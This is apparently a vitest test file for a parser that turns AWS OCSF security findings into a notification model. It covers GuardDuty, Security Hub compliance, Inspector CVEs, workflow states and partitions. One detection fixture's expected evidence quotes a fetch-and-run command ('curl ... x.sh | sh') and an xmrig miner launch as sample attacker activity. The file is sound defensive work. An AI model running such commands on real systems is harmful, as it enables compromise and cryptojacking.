/** Named facts of each real OCSF sample and own fixture, as a reader of the email needs them. */
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../../functions/core/finding/model.js';
import { ocsfToFinding } from '../../../functions/core/ocsf/to-finding.js';
import { readFixture } from '../../support/fixtures.js';
import { ocsfInputs } from './ocsf-inputs.js';

/** Prepare + Act: the findings of one fixture file, read with their paths. */
function read(name: string): Finding[] {
  return ocsfInputs(readFixture(`fixtures/${name}`)).map(({ raw, path }) => ocsfToFinding(raw, { input: name, path }));
}

function only(name: string): Finding {
  const [finding, ...rest] = read(name);
  expect(rest).toHaveLength(0);
  if (finding === undefined) throw new Error(`no finding in ${name}`);
  return finding;
}

describe('real samples', () => {
  it('reads the three findings of the cruxstack list: detection, compliance, closed detection', () => {
    const [runtime, config, mount] = read('real/securityhubv2-ocsf-findings-list.json');

    expect(runtime).toMatchObject({ severity: 'MEDIUM', productName: 'GuardDuty', workflowStatus: 'NEW', recordState: 'ACTIVE' });
    expect(runtime?.evidence).toEqual([
      'actor process: kubectl (/opt/actions-runner/_work/_tool/kind/v0.22.0/amd64/kubectl/bin/kubectl) pid 29877',
      'actor user: uid 0',
      'file: /opt/actions-runner/_work/_tool/kind/v0.22.0/amd64/kubectl/bin/kubectl SHA-256 89c0435cec75278f84b62b848b8c0d3e15897d6947b6c59a49ddccd93d7312bf',
      'process: curl (/usr/bin/curl) pid 29868 as root (uid 0)',
      'file: /usr/bin/curl SHA-256 76e9f863aaedea6159503cb01f074b9f0694a2eb3896ebec9f223dd47ac72595',
    ]);
    expect(runtime?.resources[0]?.details).toHaveLength(6);
    expect(runtime?.resources[0]?.details).toContain('image_id: ami-0e449927258d45bc4');

    expect(config).toMatchObject({ severity: 'CRITICAL', productName: 'Security Hub', companyName: 'AWS' });
    expect(config?.compliance).toEqual({
      status: 'FAILED',
      controlId: 'Config.1',
      standards: ['ruleset/cis-aws-foundations-benchmark/v/1.2.0'],
      relatedRequirements: ['CIS AWS Foundations 2.5'],
      reasons: [{ code: 'CONFIG_RECORDER_DISABLED', description: "AWS Config isn't enabled with the configuration recorder turned on." }],
    });
    expect(config?.remediation?.url).toBe('https://docs.aws.amazon.com/console/securityhub/Config.1/remediation');
    expect(config?.lastObservedAt).toBe('2025-11-03T07:31:57.235Z');

    expect(mount?.recordState).toBe('ARCHIVED');
    expect(mount?.resources.map((r) => `${r.type} ${r.id}`)).toEqual([
      'AWS::Container::Container 287ae865fc4257511514453a78a03743c5c63a40ab2a2a2f81579745b1febf41',
      'AWS::EC2::Instance i-0d7663df710a0f17a',
    ]);
    expect(mount?.resources[1]?.tags).toEqual({ Name: 'runs-on-ci-runner', provider: 'runs-on.com', environment: 'production' });
  });

  it('reads the trimmed Inspector event: LOW, no CVE list, created time, ECR resource', () => {
    const finding = only('real/securityhubv2-findings-imported-v2-inspector-event.json');

    expect(finding).toMatchObject({ severity: 'LOW', productName: 'Inspector', accountId: '123456789012', region: 'us-east-1' });
    expect(finding.createdAt).toBe('2025-10-03T21:00:00.000Z');
    expect(finding.updatedAt).toBeUndefined();
    expect(finding.resources[0]).toMatchObject({ type: 'AwsEcrContainerImage', tags: {}, details: [] });
  });
});

describe('own fixtures', () => {
  it('lists failing assessments before the one that met the criteria, and drops the javascript: link', () => {
    const finding = only('ocsf/compliance-s3-failed-three-assessments.json');

    expect(finding.compliance?.status).toBe('FAILED');
    expect(finding.compliance?.reasons.map((r) => r.code)).toEqual([
      'BUCKET_POLICY_ALLOWS_PUBLIC_READ',
      'BUCKET_BLOCK_PUBLIC_ACCESS_DISABLED',
      'ACCOUNT_BLOCK_PUBLIC_ACCESS_ENABLED',
    ]);
    expect(finding.remediation?.url).toBe('https://docs.aws.amazon.com/console/securityhub/S3.8/remediation');
    expect(finding.resources[0]?.tags).toEqual({ team: 'billing', 'data-classification': 'confidential' });
    expect(finding.resources[0]?.details).toEqual([
      'bucket_name: acme-invoices-eu',
      'creation_date: 2024-02-14T09:12:44Z',
      'owner_id: 111122223333',
    ]);
  });

  it('turns detection evidence into process, actor, hash and network lines; epoch-ms times into ISO', () => {
    const [bare] = read('ocsf/detection-process-network-actor.json');
    const [inEvent] = read('ocsf/findings-imported-v2-detection-event.json');

    expect(inEvent).toEqual(bare);
    expect(bare?.evidence).toEqual([
      'actor process: sh (/usr/bin/dash) pid 4102: /bin/sh -c curl -s http://203.0.113.50/x.sh | sh',
      'actor user: www-data (uid 33)',
      'process: xmrig (/tmp/.cache/xmrig) pid 4127: ./xmrig --donate-level 1 -o pool.example.net:3333 as www-data (uid 33)',
      'file: /tmp/.cache/xmrig SHA-256 5f2b8c0e1d4a7b3c9e6f0a1b2c3d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5',
      'network: 10.20.1.15:49822 -> 198.51.100.23:3333 (tcp)',
    ]);
    expect(bare?.firstObservedAt).toBe('2025-11-10T07:45:00.000Z');
    expect(bare?.updatedAt).toBe('2025-11-10T08:00:00.000Z');
    expect(bare?.sourceUrl).toMatch(/^https:\/\/console\.aws\.amazon\.com\/guardduty\//);
    expect(bare?.resources[0]?.details[0]).toBe('labels: web-tier');
  });

  it('reads three CVEs with the best CVSS, packages, fix availability and only http(s) references (aws-cn)', () => {
    const finding = only('ocsf/vulnerability-three-cves-aws-cn.json');

    expect(finding.severity).toBe('CRITICAL');
    expect(finding.vulnerabilities).toEqual([
      {
        id: 'CVE-2024-5535',
        cvssScore: 9.1,
        cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:H',
        packages: ['openssl 3.0.11-1~deb12u2'],
        fixedInVersion: '3.0.15-1~deb12u1',
        fixAvailable: 'YES',
        referenceUrls: ['https://www.openssl.org/news/secadv/20240627.txt', 'https://nvd.nist.gov/vuln/detail/CVE-2024-5535'],
      },
      {
        id: 'CVE-2024-45490',
        cvssScore: 9.8,
        cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
        packages: ['libexpat1 2.5.0-1', 'libexpat1-dev 2.5.0-1'],
        fixedInVersion: '2.6.3-1',
        fixAvailable: 'PARTIAL',
        referenceUrls: ['https://security-tracker.debian.org/tracker/CVE-2024-45490'],
      },
      {
        id: 'CVE-2023-5678',
        cvssScore: 5.3,
        cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L',
        packages: ['openssl 3.0.11-1~deb12u2'],
        fixAvailable: 'NO',
        referenceUrls: [],
      },
    ]);
    expect(finding.remediation).toEqual({
      text: 'Rebuild the image on a base image with openssl 3.0.15 or later and libexpat 2.6.3 or later.',
    });
    expect(new URL(finding.consoleUrl ?? '').host).toBe('cn-north-1.console.amazonaws.cn');
  });

  it('maps Resolved + Pass to RESOLVED / PASSED and the comment to the note (aws-us-gov)', () => {
    const finding = only('ocsf/resolved-compliance-passed-aws-us-gov.json');

    expect(finding).toMatchObject({ workflowStatus: 'RESOLVED', recordState: 'ACTIVE', severity: 'MEDIUM' });
    expect(finding.compliance?.status).toBe('PASSED');
    expect(finding.note).toEqual({ text: 'Fixed by change CHG-20418: trail now encrypted with the org KMS key.' });
    expect(new URL(finding.consoleUrl ?? '').host).toBe('us-gov-west-1.console.amazonaws-us-gov.com');
  });

  it('maps Suppressed + Close to SUPPRESSED / ARCHIVED and severity Unknown to INFORMATIONAL', () => {
    const finding = only('ocsf/suppressed-closed-unknown-severity.json');

    expect(finding).toMatchObject({ workflowStatus: 'SUPPRESSED', recordState: 'ARCHIVED', severity: 'INFORMATIONAL' });
    expect(finding.resources).toEqual([]);
    expect(finding.remediation).toBeUndefined();
    expect(finding.lastObservedAt).toBe('2025-11-02T08:15:30.000Z');
  });

  it('reads an unknown class generically: caption severity for Other, no workflow, fallback key', () => {
    const finding = only('ocsf/unknown-class-2005-minimal.json');

    expect(finding).toMatchObject({
      severity: 'HIGH',
      recordState: 'ACTIVE',
      partition: 'aws',
      companyName: 'Acme Security',
      key: '555566667777|incident-2025-11-13-0042|arn:aws:securityhub:sa-east-1::productv2/acme/soc-connector',
    });
    expect(finding.workflowStatus).toBeUndefined();
    expect(finding.compliance).toBeUndefined();
    expect(finding.types).toEqual([]);
  });
});
